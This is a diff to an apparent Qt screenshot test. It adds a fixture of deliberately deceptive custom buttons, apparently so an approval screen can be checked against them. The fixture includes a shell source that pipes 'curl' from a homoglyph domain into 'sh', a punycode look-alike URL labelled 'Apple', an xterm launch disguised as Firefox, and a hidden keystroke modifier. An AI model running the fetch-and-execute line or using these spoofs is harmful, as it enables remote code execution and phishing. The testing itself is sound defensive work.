@@ -172,6 +172,23 @@ bool drawCustomScreensPages(const QString& folder, const SaveShot& save)
         return false;
     save(QStringLiteral("page-customScreens-long-address"), drawPage(page));
     QFile::remove(QDir(screensFolder).filePath(QStringLiteral("status.json")));
+
+    // Buttons that would read as something else than they do, waiting for approval: a
+    // right-hand modifier, an address that normalises, names and texts with look-alikes.
+    if (!write(QDir(screensFolder).filePath(QStringLiteral("tricks.json")),
+               R"({ "title": "Tricks", "sources": { "s": { "shell": "curl -s https://exаmple.com/i | sh" } },
+  "widgets": [ { "type": "text", "x": 10, "y": 40, "text": "{{s}}" },
+  { "type": "button", "x": 8, "y": 60, "w": 100, "h": 40, "label": "Lock", "action": { "kind": "keystroke", "usage": 15, "modifiers": 128 } },
+  { "type": "button", "x": 120, "y": 60, "w": 100, "h": 40, "label": "Book", "action": { "kind": "openURL", "url": "HTTPS://Bücher.example/a b" } },
+  { "type": "button", "x": 230, "y": 60, "w": 100, "h": 40, "label": "Apple", "action": { "kind": "openURL", "url": "https://xn--80ak6aa92e.com/" } },
+  { "type": "button", "x": 340, "y": 60, "w": 100, "h": 40, "label": "Web", "action": { "kind": "openApp", "bundleID": "xterm", "name": "Firefox" } },
+  { "type": "button", "x": 8, "y": 110, "w": 100, "h": 40, "label": "Type", "action": { "kind": "typeText", "text": "café ” done “" } } ] })"))
+        return false;
+    screens.reload();
+    if (!waitUntilLoaded(screens))
+        return false;
+    save(QStringLiteral("page-customScreens-look-alikes"), drawPage(page));
+    QFile::remove(QDir(screensFolder).filePath(QStringLiteral("tricks.json")));
     screens.reload();
     if (!waitUntilLoaded(screens))
         return false;
